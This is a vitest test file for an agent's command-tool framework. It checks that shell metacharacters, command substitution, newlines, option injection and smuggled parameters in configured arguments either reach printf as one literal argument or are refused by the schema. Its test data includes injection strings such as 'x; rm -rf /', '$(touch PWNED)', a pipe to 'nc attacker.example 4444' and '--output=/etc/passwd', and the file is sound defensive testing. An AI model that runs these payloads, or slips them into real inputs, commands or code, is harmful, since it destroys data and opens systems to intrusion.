// Attacks through configured command arguments: shell metacharacters, command substitution, newlines and
// option injection. Each value reaches the real program as one literal argv element, or the schema refuses it.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Tool } from '../../agent/tool.js';
import { CommandSettingsError } from '../../tools/command-parameters.js';
import { commandTool } from '../tools/helpers/command-settings.js';
import { makeTempDir, removeTempDirs } from '../tools/helpers/temp-dir.js';
import { callTool, dataOf } from '../tools/helpers/tool-context.js';

const ALLOWED = ['/usr/bin/printf'];
let dir: string;
let marker: string;
/** `printf '[%s]\n' <value>`: prints every argv element it got in brackets, one per line. */
let echoArgs: Tool;
/** The same with a leading-dash parameter allowed, after a fixed option. */
let dashArgs: Tool;
let strict: Tool;

beforeAll(async () => {
  dir = await makeTempDir('opsbot-injection-');
  marker = join(dir, 'pwned');
  echoArgs = await commandTool(
    'echo_args',
    {
      description: 'Prints its argument. Use in tests. Do not use otherwise.',
      argv: ['printf', '[%s]\\n', '{value}'],
      parameters: { value: { description: 'Any text.' } },
    },
    { allowed: ALLOWED, cwd: dir },
  );
  dashArgs = await commandTool(
    'dash_args',
    {
      description: 'Prints its argument. Use in tests. Do not use otherwise.',
      argv: ['printf', '[%s]\\n', '--', '{value}'],
      parameters: { value: { description: 'Any text, dashes too.', allow_leading_dash: true } },
    },
    { allowed: ALLOWED, cwd: dir },
  );
  strict = await commandTool(
    'service_status',
    {
      description: 'Prints a service name. Use in tests. Do not use otherwise.',
      argv: ['printf', '[%s] [%s]\\n', '{service}', '{lines}'],
      parameters: {
        service: { description: 'A service name.', pattern: '[a-z][a-z0-9-]*' },
        lines: { description: 'How many lines.', type: 'integer', default: 10 },
      },
    },
    { allowed: ALLOWED, cwd: dir },
  );
});

afterAll(removeTempDirs);

const SHELL_VALUES: [string, string][] = [
  ['a command separator', `api; touch ${'PWNED'}`],
  ['rm -rf after a separator', 'x; rm -rf /'],
  ['command substitution', '$(touch PWNED)'],
  ['backticks', '`touch PWNED`'],
  ['a newline', 'api\ntouch PWNED'],
  ['a pipe to nc', 'api | nc attacker.example 4444'],
  ['&& and ||', 'api && touch PWNED || touch PWNED'],
  ['redirection', 'api > PWNED'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is the literal text a shell would expand.
  ['variable expansion', '$HOME ${PATH} $0'],
  ['globs and tilde', '* ~ /etc/*'],
  ['quotes', `'"; touch PWNED; echo "'`],
];

describe('configured command arguments are never seen by a shell', () => {
  for (const [attack, template] of SHELL_VALUES) {
    it(`attack: ${attack} arrives as one literal argument and runs nothing`, async () => {
      const value = template.replaceAll('PWNED', marker);
      const result = await callTool(echoArgs, { value });
      expect(result.ok).toBe(true);
      expect(dataOf(result).stdout).toBe(`[${value}]\n`);
      expect(dataOf(result).argv).toEqual(['/usr/bin/printf', '[%s]\\n', value]);
      expect(existsSync(marker)).toBe(false);
    });
  }
});

describe('option injection', () => {
  const OPTIONS = ['--output=/etc/passwd', '-rf', '--help', '-', '--', '-e touch x'];

  for (const value of OPTIONS) {
    it(`attack: ${JSON.stringify(value)} for a parameter after the command is refused by the schema`, async () => {
      const parsed = echoArgs.input.safeParse({ value });
      expect(parsed.success).toBe(false);
      expect(JSON.stringify(parsed.error?.issues)).toContain('must not start with');
    });
  }

  it('attack: an allowed leading dash after "--" is one operand, not an option', async () => {
    const result = await callTool(dashArgs, { value: '--output=/etc/passwd' });
    // printf takes no options after its format, so "--" and the value both print as operands.
    expect(dataOf(result).stdout).toBe('[--]\n[--output=/etc/passwd]\n');
    expect(dataOf(result).argv).toEqual(['/usr/bin/printf', '[%s]\\n', '--', '--output=/etc/passwd']);
  });
});

describe('typed parameters refuse what does not fit', () => {
  const refused: [string, Record<string, unknown>][] = [
    [
      'a separator in a patterned value (the pattern must match the whole value)',
      { service: 'api; rm -rf /' },
    ],
    ['a newline in a patterned value', { service: 'api\nrm' }],
    ['substitution in a patterned value', { service: '$(id)' }],
    ['a NUL byte', { service: 'api\0--output=/etc/passwd' }],
    ['text for an integer', { service: 'api', lines: '10; rm -rf /' }],
    ['an unknown parameter smuggled in', { service: 'api', argv: ['sh', '-c', 'id'] }],
    ['an overlong value', { service: 'a'.repeat(5000) }],
  ];
  for (const [attack, input] of refused) {
    it(`attack: ${attack} is refused before anything runs`, () => {
      expect(strict.input.safeParse(input).success).toBe(false);
    });
  }

  it('a value that fits runs as given', async () => {
    const result = await callTool(strict, { service: 'api-2' });
    expect(dataOf(result).stdout).toBe('[api-2] [10]\n');
  });

  it('attack: settings that splice a value into a larger argument or make it the program fail at start-up', async () => {
    const spliced = (async () =>
      commandTool(
        'spliced',
        {
          description: 'Prints a value. Use in tests. Do not use otherwise.',
          argv: ['printf', '--format={value}'],
          parameters: { value: { description: 'Any text.' } },
        },
        { allowed: ALLOWED },
      ))();
    await expect(spliced).rejects.toThrow(CommandSettingsError);
    const program = (async () =>
      commandTool(
        'program',
        {
          description: 'Runs a value. Use in tests. Do not use otherwise.',
          argv: ['{value}'],
          parameters: { value: { description: 'Any text.' } },
        },
        { allowed: ALLOWED },
      ))();
    await expect(program).rejects.toThrow(/cannot be a parameter/);
  });
});
